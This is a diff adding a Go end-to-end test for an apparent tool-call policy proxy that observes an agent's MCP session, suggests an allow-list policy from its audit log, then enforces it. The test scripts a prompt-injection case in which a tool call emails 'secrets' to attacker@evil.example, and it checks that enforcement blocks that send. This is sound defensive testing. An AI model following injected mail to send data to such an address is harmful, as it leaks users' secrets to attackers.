@@ -136,3 +136,48 @@ func TestObserveMode(t *testing.T) {
 		}
 	}
 }
+
+// The rollout loop end to end: a session observed (everything forwarded),
+// a policy suggested from its audit log, the same session replayed
+// enforcing with it: the colleague's mail goes out, the injection's does
+// not.
+func TestObserveSuggestEnforce(t *testing.T) {
+	home := t.TempDir()
+	session := func(s *e2e.Session) {
+		t.Helper()
+		if r := s.CallTool(1, "read_inbox", `{}`); !strings.Contains(r.Text, "attacker@evil.example") {
+			t.Fatalf("read_inbox: %s", r.Raw)
+		}
+		s.CallTool(2, "send_email", `{"to":"carol@partner.example","subject":"notes","body":"b"}`)
+		s.CallTool(3, "send_email", `{"to":"attacker@evil.example","subject":"all","body":"secrets"}`)
+	}
+	observed := e2e.Start(t, e2e.MCPGo(t, "attacker@evil.example"), e2e.Options{Home: home, Policy: sessionPolicy, Args: []string{"--observe", "--name", "mail"}})
+	session(observed)
+	if n := len(observed.SideEffects()); n != 2 {
+		t.Fatalf("observe mode forwarded %d of the 2 sends", n)
+	}
+	observed.Close()
+
+	base := filepath.Join(t.TempDir(), "base.yaml")
+	if err := os.WriteFile(base, []byte(sessionPolicy), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	out, err := exec.Command(e2e.Bouncer(t), "policy", "suggest", "--home", home, "--policy", base).Output()
+	if err != nil {
+		t.Fatalf("policy suggest: %v", err)
+	}
+	if !strings.Contains(string(out), `"carol@partner.example"`) || strings.Contains(string(out), `- "attacker@evil.example"`) {
+		t.Fatalf("suggested:\n%s", out)
+	}
+	suggested := filepath.Join(t.TempDir(), "suggested.yaml")
+	if err := os.WriteFile(suggested, out, 0o600); err != nil {
+		t.Fatal(err)
+	}
+
+	enforcing := e2e.Start(t, e2e.MCPGo(t, "attacker@evil.example"), e2e.Options{Policy: sessionPolicy, Args: []string{"--policy", suggested, "--name", "mail"}})
+	session(enforcing)
+	effects := enforcing.Effects()
+	if len(effects) != 1 || effects[0]["to"] != "carol@partner.example" {
+		t.Fatalf("enforcing with the suggestion, the server sent: %v", effects)
+	}
+}
